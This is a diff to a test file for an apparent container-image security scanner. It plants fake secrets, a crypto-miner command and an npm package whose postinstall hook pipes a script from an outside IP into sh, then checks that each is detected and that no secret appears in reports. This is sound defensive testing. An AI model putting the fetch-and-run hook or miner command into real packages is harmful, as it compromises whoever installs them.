@@ -24,6 +24,7 @@ const cache = join(base, 'cache')
 const awsKey = of('AKI', 'AQ3T7ZK5WN2PXV4RB')
 const awsSecret = of('kQ7vZp2LxW9sTb4NcR8m', 'Yd3HfJ6gAe5UuVwXqPoI')
 const password = of('tr0ub4', 'dor9x')
+const other = [of('Gr8zx', '!pQ91'), of('Vx92k', 'q1ZZp')]
 const npmToken = of('np', 'm_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8')
 const privateKey = generateKeyPairSync('ec', { namedCurve: 'P-256' })
   .privateKey.export({ type: 'pkcs8', format: 'pem' })
@@ -38,6 +39,18 @@ const files: Record<string, string> = {
   'two/opt/run.sh': of('#!/bin/sh\n./m -o strat', 'um+tcp://pool.x.test:3333 -u ', '4'.repeat(40), 'AbCdEf\n'),
   'two/opt/tool/LICENSE': gplText(),
   'two/app/node_modules/lodash/package.json': '{"name":"lodash","version":"4.17.15","license":"MIT"}',
+  'one/app/database.yaml': of('db:\n  password: Gr8zx', '!pQ91\n'),
+  'two/app/database.yaml': of('db:\n  password: $', '{DB_PASSWORD}\n'),
+  'two/app/conn.properties': of('url=jdbc:mysql://shop:Vx92k', 'q1ZZp@db.internal:3306/shop\n'),
+  'two/app/node_modules/late/package.json': of(
+    '{"name":"late","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.7/x.sh ',
+    '| sh"}}',
+  ),
+  'two/app/about-eicar.md': of(
+    'The EICAR-STANDARD-',
+    'ANTIVIRUS-TEST-FILE is harmless: 68 bytes to try a scanner with.\n',
+  ),
+  'two/var/www/form.php': of('<?php echo htmlspecialchars($_PO', 'ST["c"]); ?>\n'),
   'two/app/readme.txt': 'The password is sent by mail. token: see the console.\n',
   'two/app/settings.yaml': of('db:\n  password: $', '{DB_PASSWORD}\n  host: db\n'),
 }
@@ -82,9 +95,13 @@ function jenner(...args: string[]): { status: number | null; stdout: string; std
   })
 }
 
+/** The report of the first run, which read every layer. */
+let fresh: Report
+
 test('every kind of trouble is found, and nothing else', { skip }, () => {
   const { stdout, stderr } = jenner('-f', 'json')
   const report = JSON.parse(stdout || stderr) as Report
+  fresh = report
   const found = report.Results.flatMap(result => [
     ...(result.Secrets ?? []).map(one => `${result.Target} ${one.RuleID}${one.RemovedIn ? ' removed' : ''}`),
     ...(result.Malware ?? []).map(one => `${result.Target} ${one.Rule}`),
@@ -96,6 +113,9 @@ test('every kind of trouble is found, and nothing else', { skip }, () => {
   assert.deepEqual(found.filter(line => !line.startsWith('lodash')).sort(), [
     '/app/aws.env aws-access-key-id removed',
     '/app/aws.env aws-secret-access-key removed',
+    '/app/conn.properties url-credentials',
+    '/app/database.yaml generic-secret removed',
+    '/app/node_modules/late/package.json install_script_npm',
     '/app/server.key private-key',
     '/app/uploads/eicar.com EICAR_test_file',
     '/opt/run.sh Miner_command_line',
@@ -118,13 +138,15 @@ test('the second time no layer is read, and the report is the same', { skip }, (
   const [first, second] = [jenner('-f', 'json'), jenner('-f', 'json')].map(run => JSON.parse(run.stdout) as Report)
   assert.equal(second!.Timing.layersFromCache, second!.Timing.layers)
   assert.deepEqual(second!.Results, first!.Results)
+  assert.deepEqual(second!.Metadata.Layers, fresh.Metadata.Layers)
+  assert.ok(fresh.Metadata.Layers!.every(({ Size }) => Size > 0))
 })
 
 for (const format of ['json', 'table', 'sarif', 'html', 'junit', 'gitlab', 'cyclonedx', 'spdx-json', '{{json .}}'])
   test(`no secret stands in the ${format} report`, { skip }, () => {
     const { stdout } = jenner('-f', format, '--show-suppressed')
     assert.ok(stdout.length > 100)
-    for (const secret of [awsKey, awsSecret, password, npmToken, keyBody]) assert.ok(!stdout.includes(secret))
+    for (const secret of [awsKey, awsSecret, password, npmToken, keyBody, ...other]) assert.ok(!stdout.includes(secret))
   })
 
 test('all kinds count at the gate, and severities choose among all', { skip }, () => {
